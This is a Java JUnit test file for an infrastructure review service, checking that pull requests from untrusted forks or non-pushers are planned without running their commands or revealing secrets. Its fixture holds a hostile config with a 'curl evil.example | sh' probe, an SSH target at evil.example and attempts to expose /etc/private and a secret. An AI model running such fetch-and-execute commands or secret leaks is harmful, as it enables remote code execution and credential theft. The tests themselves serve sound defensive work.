package io.meshinfra.review;

import static org.awaitility.Awaitility.await;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.meshinfra.forge.CommitStatus;
import io.meshinfra.forge.PullRequest;
import io.meshinfra.model.Content;
import io.meshinfra.model.Observation;
import io.meshinfra.model.ResourceId;
import io.meshinfra.model.State;
import io.meshinfra.reconcile.settings.ForeignPlans;
import io.meshinfra.resource.Resource;
import java.nio.file.Path;
import java.util.Set;
import java.util.stream.Collectors;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/** Pull requests of people who may not push. */
@Timeout(60)
class ForeignTest {
  private static final String EVIL =
      """
      apiVersion: mesh-infra/v1
      kind: Node
      metadata: {name: trap}
      spec:
        access: [{ssh: {host: evil.example, name: trap}}]
        hostKeys: ["ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEzr5PWjBcrvU6dZ0dMTiHBKmnOMPsvkNl2DZfEOzPRW"]
      ---
      apiVersion: mesh-infra/v1
      kind: Profile
      metadata: {name: evil}
      spec:
        selector: {}
        resources:
          - shell: {name: peek, check: "curl evil.example | sh", apply: "true"}
          - file: {path: /etc/private, content: "guess\\n", mode: "0644"}
          - file: {path: /etc/leak, secretRef: "env:MESH_SECRET_DB", mode: "0640"}
      """;

  @TempDir Path folder;
  private ReviewWorld world;

  @BeforeEach
  void create() {
    world = new ReviewWorld(folder);
    world.nodes.change(
        "hub",
        "file:/etc/private",
        Observation.present(
            State.EMPTY
                .with("type", "file")
                .with("mode", "0600")
                .with("content", Content.of("what only root knows\n").asValue())));
  }

  @AfterEach
  void close() {
    world.close();
  }

  private PullRequest.Id evil(String author, boolean fork) {
    world.repository.write("evil.yaml", EVIL);
    return world.propose(author, fork, "evil");
  }

  private Set<String> probed() {
    return world.nodes.looked().stream()
        .flatMap(work -> work.catalog().resources().stream())
        .map(Resource::id)
        .map(ResourceId::toString)
        .collect(Collectors.toSet());
  }

  private Set<String> looked() {
    return world.nodes.looked().stream()
        .map(work -> work.node() + " " + work.target().access().getFirst().host())
        .collect(Collectors.toSet());
  }

  private void restart(ForeignPlans foreign) {
    ReviewRules rules = world.rules();
    world.rules(
        new ReviewRules(
            "main", "main", foreign, rules.interval(), rules.deadline(), rules.address()));
    world.start();
  }

  @Test
  void shouldRunNoCommandOfAStrangerAndShowHimNothing() {
    PullRequest.Id id = evil(ReviewWorld.STRANGER, true);
    String plan = world.awaitPlan(id, "4 nodes");

    assertEquals(Set.of("file:/etc/motd", "file:/etc/private"), probed());
    assertEquals(Set.of("hub 192.0.2.1", "laptop 192.0.2.1", "wsl 192.0.2.1"), looked());
    assertTrue(plan.contains("`shell:peek`: its probe runs commands of this pull request"), plan);
    assertTrue(plan.contains("the node is new in this pull request"), plan);
    assertTrue(plan.contains("`file:/etc/leak`: it holds a secret"), plan);
    assertTrue(plan.contains("content: (not shown) -> (not shown)"), plan);
    assertFalse(plan.contains("only root"), plan);
    assertFalse(plan.contains(Content.of("what only root knows\n").sha256().substring(0, 12)));
    String full = world.journal.reviews().report(1);
    assertFalse(full.contains("only root"), full);
  }

  @Test
  void shouldTreatAMemberWhoMayNotPushLikeAFork() {
    PullRequest.Id id = evil(ReviewWorld.STRANGER, false);
    world.awaitPlan(id, "4 nodes");
    assertFalse(probed().contains("shell:peek"));
  }

  @Test
  void shouldNotTrustAForkOfAMember() {
    PullRequest.Id id = evil(ReviewWorld.MEMBER, true);
    world.awaitPlan(id, "4 nodes");
    assertFalse(probed().contains("shell:peek"));
  }

  @Test
  void shouldProbeEverythingOfSomebodyWhoMayPush() {
    PullRequest.Id id = evil(ReviewWorld.MEMBER, false);
    String plan = world.awaitPlan(id, "4 nodes: 4 change");

    assertTrue(probed().contains("shell:peek"));
    assertTrue(probed().contains("file:/etc/leak"));
    assertTrue(looked().contains("trap evil.example"));
    assertTrue(plan.contains("-what only root knows"), plan);
  }

  @Test
  void shouldPlanNothingOfAStrangerWhereThatIsSet() {
    restart(ForeignPlans.NEVER);
    PullRequest.Id id = evil(ReviewWorld.STRANGER, true);
    world.awaitPlan(id, "somebody who may push can write: mesh plan");
    assertEquals(Set.of(), looked());
    await()
        .until(() ->
            world.forge.statusLog().stream()
                .anyMatch(s -> s.contains(CommitStatus.State.FAILURE + " no plan")));

    world.forge.comment(id, ReviewWorld.MEMBER, "mesh plan");
    world.reviews().commented(id);
    world.awaitPlan(id, "4 nodes");
    assertFalse(probed().contains("shell:peek"), "asking for it is no licence to run it");
  }

  @Test
  void shouldTrustEverybodyWhereThatIsSet() {
    restart(ForeignPlans.FULL);
    PullRequest.Id id = evil(ReviewWorld.STRANGER, true);
    world.awaitPlan(id, "4 nodes: 4 change");
    assertTrue(probed().contains("shell:peek"));
    assertFalse(probed().contains("file:/etc/leak"), "commands may run, secrets are not given");
  }
}
